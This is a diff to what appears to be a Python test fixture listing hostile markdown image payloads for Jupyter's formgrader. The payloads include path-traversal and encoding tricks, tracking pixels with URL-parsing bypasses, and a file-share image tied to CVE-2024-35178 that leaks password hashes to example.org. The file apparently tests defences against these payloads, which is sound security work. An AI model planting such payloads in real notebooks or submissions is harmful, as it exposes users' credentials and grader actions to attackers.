@@ -17,7 +17,7 @@ LOADING = {
     "beside the page": f"![d](../../?path={FOLDER})",
     "from the root": f"![d](/formgrader?path={FOLDER})",
     "with dots that are encoded": f"![d](%2e%2e/.%2E/?path={FOLDER})",
-    "with backslashes": f"![d](<..\\..\\?path={FOLDER}>)",
+    "with backslashes": f"![d](<..\\\\..\\\\?path={FOLDER}>)",
     "the copy in autograded": "![d](../../?path=autograded/NAME/01-both-can-gain)",
     "scheme without slashes": f"![d](http:../../?path={FOLDER})",
     "name that is encoded": f"![d](../../?%70ath={FOLDER})",
@@ -41,7 +41,7 @@ ACTING = {
 OUTSIDE = {
     "pixel": "![](https://example.org/pixel.png?NAME)",
     "no protocol": "![](//example.org/pixel.png)",
-    "backslashes for slashes": "![](<\\\\example.org\\pixel.png>) ![](https:\\\\example.org/x)",
+    "backslashes for slashes": "![](<\\\\\\\\example.org\\\\pixel.png>) ![](<https:\\\\\\\\example.org/x>)",
     "four slashes": "![](////example.org/pixel.png)",
     "user before the host": "![](https://localhost@example.org/pixel.png)",
     "in a heading": "# ![](https://example.org/heading.png)",
@@ -78,7 +78,7 @@ SUBMISSIONS: tuple[Hostile, ...] = (
     *all_written("address", FORGERY, HERE),
     written(
         "file share",
-        "![](<\\\\example.org\\share\\x.png>) ![](file://example.org/share/x.png)",
+        "![](<\\\\\\\\example.org\\\\share\\\\x.png>) ![](file://example.org/share/x.png)",
         "CVE-2024-35178 (Jupyter on Windows gives a password's hash to a file share)",
     ),
 )
